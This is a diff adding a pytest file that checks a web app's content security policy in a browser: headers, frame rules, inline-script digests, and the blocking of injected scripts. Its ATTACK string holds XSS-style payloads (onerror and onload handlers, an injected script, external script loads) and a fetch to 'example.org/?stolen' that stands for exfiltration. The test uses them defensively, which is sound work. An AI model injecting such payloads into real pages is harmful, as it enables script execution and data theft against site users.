@@ -1,0 +1,86 @@
+"""The content security policy of the served page, in a browser that enforces it."""
+
+import urllib.request
+
+import pytest
+
+from app.policy import digests, policy
+
+ATTACK = """async () => {
+  const box = document.createElement("div");
+  document.body.append(box);
+  box.innerHTML = '<img src="x:" onerror="window.hit = 1"><svg onload="window.hit = 2"></svg>';
+  const script = document.createElement("script");
+  script.textContent = "window.hit = 3";
+  document.head.append(script);
+  for (const url of ["https://example.org/x.js", "https://example.org/x.png"]) {
+    await new Promise((go) => {
+      const made = document.createElement(url.endsWith("js") ? "script" : "img");
+      made.onload = made.onerror = go;
+      made.src = url;
+      document.head.append(made);
+    });
+  }
+  await fetch("https://example.org/?stolen").catch(() => {});
+  await new Promise((go) => setTimeout(go, 100));
+  box.remove();
+}"""
+
+
+def answer(url: str):
+    with urllib.request.urlopen(url, timeout=30) as given:
+        return dict(given.headers), given.read().decode("utf-8", "replace")
+
+
+def test_the_page_comes_with_a_policy_that_names_its_own_scripts(server):
+    headers, page = answer(server.url)
+    rules = dict(rule.split(" ", 1) for rule in headers["content-security-policy"].split("; "))
+    assert rules["default-src"] == "'self'" and rules["object-src"] == "'none'"
+    assert "'unsafe-inline'" not in rules["script-src"] and "http" not in rules["script-src"]
+    assert digests(page) and all(one in rules["script-src"] for one in digests(page))
+    headers, _ = answer(f"{server.url}/config")
+    assert headers["x-content-type-options"] == "nosniff"
+
+
+def test_smuggled_scripts_do_not_run_and_nothing_leaves(visit):
+    """That the page itself works under its policy, ``visit`` checks in every test of the page."""
+    visitor = visit()
+    assert visitor.run() == "done"
+    assert visitor.failures == [], "nothing that the page does is refused"
+    visitor.page.evaluate(ATTACK)
+    assert visitor.page.evaluate("window.hit") is None
+    refused = " ".join(visitor.failures)
+    for directive in ("script-src", "img-src", "default-src"):
+        assert f'directive: "{directive}' in refused, directive
+    assert len(visitor.failures) >= 5
+    visitor.failures.clear()
+    visitor.foreign.clear()  # asked for, and stopped by the browser
+
+
+def test_who_may_show_the_page_in_a_frame(monkeypatch):
+    def framers() -> str:
+        return policy([]).rpartition("frame-ancestors ")[2]
+
+    assert framers() == "'self'"
+    monkeypatch.setenv("SPACE_ID", "a/b")
+    assert "https://huggingface.co" in framers()
+    monkeypatch.setenv("DRAFTSCOPE_EMBEDDED_BY", "https://school.example")
+    assert "https://school.example" in framers()
+
+
+@pytest.mark.parametrize(
+    ("page", "count"),
+    [
+        ("<script>a</script><script src=x></script><SCRIPT>b</SCRIPT>", 2),
+        ("<p>none</p>", 0),
+        ("<script>cut", 1),
+    ],
+)
+def test_inline_scripts_are_found(page, count):
+    assert len(digests(page)) == count
+
+
+def test_a_digest_is_that_of_a_browser():
+    """The example of the specification (CSP3, section 2.3.1's alert)."""
+    known = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
+    assert digests("<script>alert('Hello, world.');</script>") == [known]
